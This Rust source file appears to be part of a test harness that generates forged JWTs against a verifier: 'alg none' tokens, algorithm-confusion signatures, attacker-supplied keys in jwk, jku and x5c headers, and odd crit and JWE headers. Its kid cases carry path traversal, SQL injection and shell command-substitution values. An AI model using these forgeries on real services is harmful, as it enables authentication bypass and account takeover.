//! What the header says: no algorithm, another one, other keys, extensions.

use super::*;

pub fn unsigned() -> Attacks {
    let mut attacks = Attacks::new();
    let claims = b64(claims_of_alice().to_string());
    for alg in ["none", "None", "NONE", "nOnE", ""] {
        for signature in ["", "AA", "e30"] {
            let header = b64(json!({ "alg": alg, "typ": "JWT" }).to_string());
            let token = format!("{header}.{claims}.{signature}");
            attacks.push(named(
                format!("alg {alg:?}, signature {signature:?}"),
                token,
            ));
        }
    }
    for header in [
        "{}",
        r#"{"typ":"JWT"}"#,
        r#"{"alg":null}"#,
        r#"{"alg":1}"#,
        r#"{"alg":["HS256"]}"#,
    ] {
        attacks.push(named(header, format!("{}.{claims}.", b64(header))));
    }
    attacks.push(named(
        "no signature",
        format!("{}.{claims}", b64(r#"{"alg":"HS256"}"#)),
    ));
    attacks.push(named("claims alone", claims_of_alice().to_string()));
    let json = json!({ "payload": claims, "protected": b64(r#"{"alg":"none"}"#), "signature": "" });
    attacks.push(named("JSON form", json.to_string()));
    let json =
        json!({ "payload": claims, "signatures": [{ "header": { "alg": "none" } }], "a.b.c": 1 });
    attacks.push(named("JSON form with dots", json.to_string()));
    attacks
}

pub fn confused_algorithms(target: &Target) -> Attacks {
    let mut attacks = Attacks::new();
    let claims = claims_of_alice();
    let hs256 = json!({ "alg": "HS256", "typ": "JWT" });
    let der = pem_body(mint::RSA_PUBLIC_PEM);
    let pem = mint::RSA_PUBLIC_PEM;
    let ec_pem = target.ec.public_pem.as_str();
    let public: [(&str, Vec<u8>); 9] = [
        ("RSA PEM", pem.into()),
        ("RSA PEM without its last newline", pem.trim_end().into()),
        ("RSA PEM in one line", pem.replace('\n', "").into()),
        ("RSA PEM with CRLF", pem.replace('\n', "\r\n").into()),
        ("RSA DER", der.clone()),
        ("RSA PKCS#1 DER", der[24..].to_vec()),
        ("EC PEM", ec_pem.into()),
        ("EC point", target.ec.point.clone()),
        ("Ed25519 key", target.ed.point.clone()),
    ];
    for (name, key) in public {
        for kid in [None, Some("rsa"), Some("ec"), Some("ed")] {
            let header = with(&hs256, json!({ "kid": kid }));
            let token = sign(&header, &claims, Algorithm::HS256, &hmac(&key));
            attacks.push(named(
                format!("HS256 with {name} as its secret, kid {kid:?}"),
                token,
            ));
        }
    }
    // A right signature under a wrong name.
    for real in ALGORITHMS {
        for said in [
            "HS256", "HS384", "HS512", "RS256", "RS384", "PS256", "ES256", "ES384", "ES256K",
            "EdDSA",
        ] {
            if said == format!("{real:?}") {
                continue;
            }
            let token = target.token(real, json!({ "alg": said }), json!({}));
            attacks.push(named(format!("{real:?} that says {said}"), token));
        }
    }
    // A right name, an algorithm that the key is not for.
    for other in [
        Algorithm::HS384,
        Algorithm::HS512,
        Algorithm::RS384,
        Algorithm::RS512,
        Algorithm::PS256,
    ] {
        attacks.push(named(
            format!("{other:?} by the right key"),
            target.token(other, json!({}), json!({})),
        ));
        let said = match other {
            Algorithm::HS384 | Algorithm::HS512 => "HS256",
            _ => "RS256",
        };
        attacks.push(named(
            format!("{other:?} that says {said}"),
            target.token(other, json!({ "alg": said }), json!({})),
        ));
    }
    for alg in ["hs256", "Hs256", "HS256 ", " HS256", "HMAC", "HS256\u{0}"] {
        let token = target.token(Algorithm::HS256, json!({ "alg": alg }), json!({}));
        attacks.push(named(format!("alg {alg:?}"), token));
    }
    attacks
}

fn pem_body(pem: &str) -> Vec<u8> {
    let body: String = pem.lines().filter(|line| !line.starts_with('-')).collect();
    data_encoding::BASE64
        .decode(body.as_bytes())
        .expect("base64")
}

/// The attacker's own key, offered in the header.
pub fn keys_inside(lure: &str) -> Attacks {
    let own = mint::p256();
    let jwk = mint::jwk("ES256", "ec", &own);
    let certificate = data_encoding::BASE64.encode(&own.point);
    [
        json!({ "jwk": jwk }),
        json!({ "jwk": jwk, "kid": "ec" }),
        json!({ "jku": lure, "kid": "ec" }),
        json!({ "jku": lure, "kid": "attacker" }),
        json!({ "x5u": lure, "kid": "ec" }),
        json!({ "x5c": [certificate], "kid": "ec" }),
        json!({ "x5c": [certificate], "x5t": "abc", "x5t#S256": "abc" }),
    ]
    .into_iter()
    .map(|inside| {
        let header = with(&json!({ "alg": "ES256", "typ": "JWT" }), inside.clone());
        let token = sign(&header, &claims_of_alice(), Algorithm::ES256, &own.signing);
        named(format!("own key in {inside}"), token)
    })
    .collect()
}

pub fn key_ids(target: &Target) -> Attacks {
    let mut attacks = Attacks::new();
    let claims = claims_of_alice();
    // What the id would make the key be, if it were a path or a query.
    for (kid, secret) in [
        ("../../../../../../dev/null", ""),
        ("/dev/null", ""),
        ("file:///proc/sys/kernel/randomize_va_space", "2\n"),
        ("' UNION SELECT 'aaaa' --", "aaaa"),
        ("x' OR '1'='1", "1"),
        ("$(echo key)", "key"),
        ("ec\u{0}", ""),
        ("hs256", "hs256"),
    ] {
        let header = json!({ "alg": "HS256", "kid": kid });
        // This library signs with no empty secret; a zero does the same to an HMAC.
        let secret = if secret.is_empty() { "\0" } else { secret };
        let token = sign(&header, &claims, Algorithm::HS256, &hmac(secret));
        attacks.push(named(format!("kid {kid:?}"), token));
    }
    // Under a right signature, too.
    for kid in [
        json!(""),
        json!("a".repeat(257)),
        json!("k".repeat(3_000)),
        json!("line\nbreak"),
        json!("zero\u{0}"),
        json!(1),
        json!(true),
        json!(["rsa"]),
        json!({ "kid": "rsa" }),
    ] {
        let token = target.token(Algorithm::HS256, json!({ "kid": kid }), json!({}));
        attacks.push(named(format!("kid {kid:.40}"), token));
    }
    let null = r#"{"alg":"HS256","kid":null}"#;
    attacks.push(named(
        "kid null",
        sign_raw(
            null,
            claims.to_string(),
            Algorithm::HS256,
            &hmac(JWT_SECRET),
        ),
    ));
    for (algorithm, kid) in [
        (Algorithm::RS256, "ec"),
        (Algorithm::ES256, "rsa"),
        (Algorithm::EdDSA, "ec"),
        (Algorithm::RS256, "RSA"),
        (Algorithm::RS256, "rsa "),
        (Algorithm::EdDSA, "unknown"),
    ] {
        let token = target.token(algorithm, json!({ "kid": kid }), json!({}));
        attacks.push(named(format!("{algorithm:?} that names {kid:?}"), token));
    }
    attacks
}

pub fn extensions(target: &Target) -> Attacks {
    let mut attacks = Attacks::new();
    for header in [
        json!({ "crit": ["exp"] }),
        json!({ "crit": ["b64"], "b64": true }),
        json!({ "crit": [] }),
        json!({ "crit": ["https://example.com/ext"], "https://example.com/ext": true }),
        json!({ "crit": "exp" }),
        json!({ "b64": false }),
        json!({ "b64": true }),
        json!({ "zip": "DEF" }),
        json!({ "enc": "A256GCM" }),
        json!({ "alg": "dir", "enc": "A256GCM" }),
        json!({ "typ": "dpop+jwt" }),
        json!({ "typ": "logout+jwt" }),
        json!({ "typ": "secevent+jwt" }),
        json!({ "typ": "JOSE" }),
        json!({ "typ": 1 }),
        json!({ "typ": "" }),
    ] {
        let token = target.token(Algorithm::HS256, header.clone(), json!({}));
        attacks.push(named(header.to_string(), token));
    }
    // RFC 7797: the payload as it stands, signed so.
    let header = b64(r#"{"alg":"HS256","b64":false,"crit":["b64"]}"#);
    let payload = claims_of_alice().to_string();
    let message = format!("{header}.{payload}");
    let signature = crypto::sign(message.as_bytes(), &hmac(JWT_SECRET), Algorithm::HS256);
    attacks.push(named(
        "b64 false",
        format!("{message}.{}", signature.expect("signed")),
    ));
    let jwe = b64(r#"{"alg":"dir","enc":"A256GCM"}"#);
    attacks.push(named(
        "JWE",
        format!("{jwe}..AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA"),
    ));
    let jwe = b64(r#"{"alg":"RSA-OAEP","enc":"A256GCM","kid":"rsa"}"#);
    attacks.push(named(
        "JWE to the RSA key",
        format!("{jwe}.AAAA.AAAAAAAAAAAAAAAA.AAAA.AAAA"),
    ));
    let inner = target.claiming(json!({}));
    for header in [r#"{"alg":"HS256"}"#, r#"{"alg":"HS256","cty":"JWT"}"#] {
        let token = sign_raw(header, &inner, Algorithm::HS256, &hmac(JWT_SECRET));
        attacks.push(named(format!("nested, {header}"), token));
        let quoted = json!(inner).to_string();
        let token = sign_raw(header, quoted, Algorithm::HS256, &hmac(JWT_SECRET));
        attacks.push(named(format!("nested as text, {header}"), token));
    }
    attacks
}
